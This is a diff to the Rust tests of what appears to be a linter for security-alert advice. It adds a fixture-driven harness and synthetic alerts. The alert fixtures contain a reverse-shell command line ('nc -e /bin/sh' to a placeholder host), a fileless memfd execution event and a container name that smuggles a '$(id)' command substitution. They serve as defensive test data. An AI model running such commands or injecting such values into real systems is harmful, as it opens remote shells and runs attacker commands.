@@ -244,7 +244,7 @@ fn claims_are_weighed() {
 #[test]
 fn every_id_in_the_code_stands_in_the_table() {
     let n = rules::all().count();
-    assert_eq!(n, 76);
+    assert_eq!(n, 77);
     for (id, rule) in rules::all() {
         assert!(!rule.message.is_empty() || id == "C01", "{id} says nothing");
     }
@@ -275,4 +275,97 @@ proptest::proptest! {
             lint(&text, kind, None);
         }
     }
+}
+
+/// One case of `fixtures/lint/cases.txt`.
+struct Case {
+    id: String,
+    is_bad: bool,
+    kind: String,
+    alert: Option<Alert>,
+    text: String,
+}
+
+fn cases() -> Vec<Case> {
+    let mut cases = Vec::new();
+    let text = include_str!("../../fixtures/lint/cases.txt");
+    for section in text.split("\n=== ").skip(1) {
+        let (head, body) = section.split_once('\n').unwrap();
+        let words: Vec<&str> = head.split(' ').collect();
+        let case = |text: &str| Case {
+            id: words[0].into(),
+            is_bad: words[1] == "bad",
+            kind: words[2].into(),
+            alert: words.get(3).map(|name| alert(name)),
+            text: text.into(),
+        };
+        if words[2] == "sh" {
+            cases.extend(body.lines().filter(|line| !line.is_empty()).map(case));
+        } else {
+            cases.push(case(body));
+        }
+    }
+    cases
+}
+
+/// Alerts of our own making: what they say is what the cases go by.
+fn alert(name: &str) -> Alert {
+    let json = match name {
+        "nc" => r#"{"evt.type":"execve","proc.name":"nc","proc.cmdline":"nc -e /bin/sh example.com 22","proc.exepath":"/usr/bin/nc","container.id":"0123456789ab","container.name":"modest_hopper"}"#,
+        "memfd" => r#"{"evt.type":"execve","proc.name":"3","proc.pid":4242,"evt.arg.flags":"EXE_WRITABLE|EXE_FROM_MEMFD","proc.exepath":"memfd:x","container.id":"0123456789ab","container.name":"modest_hopper","container.start_ts":1728144488131238330,"evt.time":1728144488850053630}"#,
+        "shell" => r#"{"evt.type":"execve","proc.name":"sh","proc.cmdline":"sh -c ip link del calico_tmp_A || true","container.id":"0123456789ab"}"#,
+        "pod" => r#"{"evt.type":"connect","proc.name":"curl","proc.pid":4242,"fd.rip":"198.51.100.7","fd.rport":443,"container.id":"0123456789ab","container.name":"web$(id)","k8s.ns.name":"shop","k8s.pod.name":"web-0"}"#,
+        "server" => r#"{"evt.type":"accept4","proc.name":"nginx","container.id":"0123456789ab"}"#,
+        other => panic!("no alert {other}"),
+    };
+    let map: serde_json::Map<String, serde_json::Value> = serde_json::from_str(json).unwrap();
+    let mut alert = Alert::default();
+    for (key, value) in map {
+        let value = match value {
+            serde_json::Value::Number(number) => crate::model::Value::Number(number.to_string().into()),
+            other => crate::model::Value::String(other.as_str().unwrap().into()),
+        };
+        alert.fields.set(&key, value);
+    }
+    alert
+}
+
+#[test]
+fn every_rule_speaks_where_it_should_and_is_silent_where_not() {
+    let mut wrong = Vec::new();
+    let (mut bad, mut good) = (std::collections::BTreeMap::new(), std::collections::BTreeMap::new());
+    for Case { id, is_bad, kind, alert, text } in cases() {
+        let is = match kind.as_str() {
+            "sh" | "script" => Kind::Shell,
+            "md" => Kind::Markdown,
+            _ => Kind::Snippet,
+        };
+        let fence = if kind == "conf" { "```conf\n" } else { "" };
+        let (is, text) = if fence.is_empty() { (is, text) } else { (Kind::Markdown, format!("{fence}{text}\n```\n")) };
+        let found = lint(&text, is, alert.as_ref());
+        let said = found.iter().find(|finding| finding.id == id);
+        let ids: Vec<_> = found.iter().map(|finding| finding.id).collect();
+        if is_bad {
+            *bad.entry(id.clone()).or_insert(0) += 1;
+            match said {
+                None => wrong.push(format!("{id} is silent, {ids:?}: {text}")),
+                Some(finding) if finding.severity != rules::rule(&id).severity => {
+                    wrong.push(format!("{id} is {}: {text}", finding.severity.name()));
+                }
+                Some(_) => {}
+            }
+        } else {
+            *good.entry(id.clone()).or_insert(0) += 1;
+            let strict = is == Kind::Shell;
+            if said.is_some() || strict && found.iter().any(|finding| finding.severity > Severity::Note) && id != "S02" && id != "E06" {
+                wrong.push(format!("{id} should be silent, {ids:?}: {text}"));
+            }
+        }
+    }
+    for (id, _) in rules::all() {
+        if !bad.contains_key(id) || !good.contains_key(id) {
+            wrong.push(format!("{id} has no case"));
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong.join("\n"));
 }
